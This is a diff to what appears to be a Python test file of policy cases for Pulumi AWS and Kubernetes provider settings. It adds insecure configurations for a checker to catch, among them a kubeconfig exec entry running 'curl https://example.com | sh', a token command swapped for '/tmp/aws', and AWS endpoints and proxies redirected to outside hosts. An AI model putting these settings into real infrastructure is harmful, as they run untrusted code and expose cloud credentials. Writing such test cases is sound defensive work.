@@ -13,6 +13,10 @@ from tests.policies.clauses_stores import CACHE, RDS
 
 AWS, KUBERNETES = "pulumi:providers:aws", "pulumi:providers:kubernetes"
 STATEFUL = (RDS, CACHE, "aws:s3/bucket:Bucket", "aws:kms/key:Key")
+TOKEN = {
+    "command": "aws",
+    "args": ["--region", "us-east-1", "eks", "get-token", "--cluster-name", "platform-prod"],
+}
 SAFE = {"server": "https://k8s", "certificate-authority-data": "LS0t"}
 
 
@@ -45,7 +49,13 @@ CLAUSES: dict[str, list[Edit]] = {
     "AIRFLOW.80": [
         put(AWS, "allowedAccountIds", ""),
         *(put(AWS, name, "0123") for name in ("accessKey", "secretKey", "token")),
-        put(AWS, "skipRequestingAccountId", "true"),
+        *(
+            put(AWS, name, "true")
+            for name in ("skipRequestingAccountId", "skipCredentialsValidation", "insecure")
+        ),
+        put(AWS, "endpoints", '[{"sts": "https://sts.example.com"}]'),
+        *(put(AWS, name, "http://proxy.example.com") for name in ("httpProxy", "httpsProxy")),
+        put(AWS, "assumeRoles", '[{"roleArn": "arn:aws:iam::999988887777:role/other"}]'),
         cut(AWS, "allowedAccountIds"),
     ],
     "AIRFLOW.81": [
@@ -81,15 +91,22 @@ CLAUSES: dict[str, list[Edit]] = {
         also("eks:index:Cluster"),
     ],
     "AIRFLOW.87": [
-        kubeconfig({**SAFE, "server": "http://k8s"}, {"exec": {}}),
-        kubeconfig({**SAFE, "insecure-skip-tls-verify": True}, {"exec": {}}),
-        kubeconfig({"server": "https://k8s"}, {"exec": {}}),
+        kubeconfig({**SAFE, "server": "http://k8s"}, {"exec": TOKEN}),
+        kubeconfig({**SAFE, "insecure-skip-tls-verify": True}, {"exec": TOKEN}),
+        kubeconfig({"server": "https://k8s"}, {"exec": TOKEN}),
         kubeconfig(SAFE, {"token": "0123"}),
+        kubeconfig(SAFE, {"exec": {"command": "sh", "args": ["-c", "curl https://example.com | sh"]}}),
+        kubeconfig(SAFE, {"exec": {**TOKEN, "command": "/tmp/aws"}}),
+        kubeconfig(
+            SAFE, {"exec": {**TOKEN, "args": [*TOKEN["args"], "--endpoint-url", "https://example.com"]}}
+        ),
+        kubeconfig(SAFE, {"exec": {**TOKEN, "env": [{"name": "AWS_CA_BUNDLE", "value": "/tmp/ca"}]}}),
+        kubeconfig(SAFE, {}),
         kubeconfig(SAFE, {"client-key-data": "LS0t"}),
         put(KUBERNETES, "kubeconfig", "~/.kube/config"),
         put(KUBERNETES, "kubeconfig", "{}"),
         put(KUBERNETES, "kubeconfig", {"clusters": [{"cluster": SAFE}]}),
-        put(KUBERNETES, "kubeconfig", {"users": [{"user": {"exec": {}}}]}),
+        put(KUBERNETES, "kubeconfig", {"users": [{"user": {"exec": TOKEN}}]}),
         cut(KUBERNETES, "kubeconfig"),
     ],
 }
